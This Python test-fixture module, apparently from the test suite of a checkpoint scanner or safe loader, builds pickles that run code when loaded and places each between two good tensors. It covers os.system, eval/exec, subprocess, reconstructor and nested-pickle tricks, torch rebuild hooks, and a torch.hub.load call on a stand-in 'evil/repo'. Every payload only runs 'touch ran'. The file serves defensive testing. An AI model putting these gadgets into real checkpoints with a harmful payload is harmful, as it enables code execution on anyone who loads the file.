"""Pickles that are programs: every way in which one can call something, and nothing is called here.

Each file holds two good tensors around a value that a program has to make.
"""

from pickle_code import (
    ADDITEMS,
    APPEND,
    APPENDS,
    EMPTY_TUPLE,
    MARK,
    NEWOBJ_EX,
    NONE,
    REDUCE,
    SETITEM,
    SETITEMS,
    Code,
    build,
    call,
    name,
    newobj,
    ordered_dict,
    persistent,
    program,
    stack_name,
    storage,
    tensor,
    value,
)

from attacks import of_family
from attacks.containers import in_zip
from attacks.legacy import legacy
from attacks.tar import tar

refused, harmless = of_family(__name__)
SYSTEM, HANDLER = name("os.system"), name("logging.FileHandler")
TOUCH = "touch ran"
"""Run in the child's folder; that the file is there is the proof that something ran."""
RUN = call(SYSTEM, TOUCH)
OPEN = "open('ran', 'w')"


def with_method(method):
    """An object whose method of this name is ``os.system``, and its argument."""
    return build(call("types.SimpleNamespace"), {method: SYSTEM})


WAYS = {
    "reduce": RUN,
    "stack_global": call(stack_name("os", "system"), TOUCH),
    "dotted_stack_global": call(stack_name("shutil", "os.system"), TOUCH),
    "inst": MARK + value(TOUCH) + b"ios\nsystem\n",
    "obj": MARK + SYSTEM + value(TOUCH) + b"o",
    "newobj": call("builtins.list", newobj("builtins.map", SYSTEM, [TOUCH])),
    "newobj_ex": name("functools.partial") + value((SYSTEM, TOUCH)) + value({}) + NEWOBJ_EX
    + EMPTY_TUPLE + REDUCE,  # which calls what was made
    "build": build(with_method("__setstate__"), TOUCH),
    "append": with_method("append") + value(TOUCH) + APPEND,
    "appends": with_method("append") + MARK + value(TOUCH) + APPENDS,
    "additems": with_method("add") + MARK + value(TOUCH) + ADDITEMS,
    "setitem": call("shelve.open", "ran") + value("a") + value(1) + SETITEM,
    "setitems": call("shelve.open", "ran") + MARK + value("a") + value(1) + SETITEMS,
    "ext1": call(Code(b"\x82\xf0"), TOUCH),
    "ext2": call(Code(b"\x83\xf0\x00"), TOUCH),
    "ext4": call(Code(b"\x84\xf0\x00\x00\x00"), TOUCH),
    "reconstructor": call("copyreg._reconstructor", HANDLER, HANDLER, "ran"),
    "python_2_reconstructor": call("copy_reg._reconstructor", HANDLER, HANDLER, "ran"),
    "getattr_chain": call(
        call("builtins.getattr", call("importlib.import_module", "os"), "system"), TOUCH),
    "attrgetter_chain": call(
        call(call("operator.attrgetter", "system"), call("builtins.__import__", "os")), TOUCH),
    "eval": call("builtins.eval", OPEN),
    "python_2_eval": call("__builtin__.eval", OPEN),
    "exec": call("builtins.exec", OPEN),
    "open": call("builtins.open", "ran", "w"),
    "posix": call("posix.system", TOUCH),
    "subprocess": call("subprocess.check_output", ["touch", "ran"]),
    "timeit": call("timeit.timeit", OPEN, "pass", name("time.perf_counter"), 1),
    "runpy": call("runpy._run_code", OPEN, {}),
    "pickle_in_a_pickle": call("_pickle.loads", program(RUN)),
    "in_a_set": call("builtins.frozenset", [RUN]),
    "as_a_key": value({RUN: 1}),
    "in_a_list": value([1, [2, RUN]]),
    "in_an_ordered_dict": ordered_dict({"a": RUN}),
}  # fmt: skip
TORCH_WAYS = {
    "rebuild_from_type": call(
        "torch._tensor._rebuild_from_type_v2", SYSTEM, SYSTEM, (TOUCH,), NONE),
    "hooks": tensor(None, 0, (4,), (1,), False, RUN),
    "shape": tensor(None, 0, (RUN,), (1,)),
    "storage": tensor(RUN),
    "storage_type": tensor(storage("0", 4, RUN)),
    "storage_key": tensor(storage(RUN, 4)),
    "persistent_id": persistent(RUN),
    "persistent_id_of_another_kind": persistent((RUN, 1)),
    "parameter": call("torch._utils._rebuild_parameter", RUN, True, NONE),
    "tensor_subclass": call(
        "torch._tensor._rebuild_from_type_v2", name("torch._utils._rebuild_tensor_v2"),
        name("evil.Tensor"), (storage(), 0, (4,), (1,), False, NONE), {"a": 1}),
    "torch_load": call("torch.load", "ran.pt"),
    "torch_hub": call("torch.hub.load", "evil/repo", "model"),
    "typed_storage_from_bytes": call("torch.storage._load_from_bytes", program(RUN)),
}  # fmt: skip


def whole(form, way):
    """The pickle of a checkpoint with ``bad`` between two good tensors."""
    bad = (WAYS | TORCH_WAYS)[way]
    protocol = 2 if "python_2" in way else 4  # where the standard unpickler knows old names
    if form == "tar":
        good = persistent("30", python=2)
    elif form == "legacy":
        own = storage("0", 4, "FloatStorage", "cpu", None)
        good, bad = tensor(own), bad.replace(storage()[-4:], own[-5:])
    else:
        good = tensor()
    return program(value({"first": good, "bad": Code(bad), "last": good}), protocol=protocol)


def written(folder, case):
    pickle = whole(*case)
    if case[0] == "zip":
        return in_zip(folder, pickle)
    return (legacy if case[0] == "legacy" else tar)(folder, {"pickle": pickle})


CASES = [(form, way) for form in ("zip", "legacy", "tar") for way in WAYS]
CASES += [(form, way) for form in ("zip", "legacy") for way in TORCH_WAYS]
harmless(written, {f"{way}_in_{form}": (form, way) for form, way in CASES})
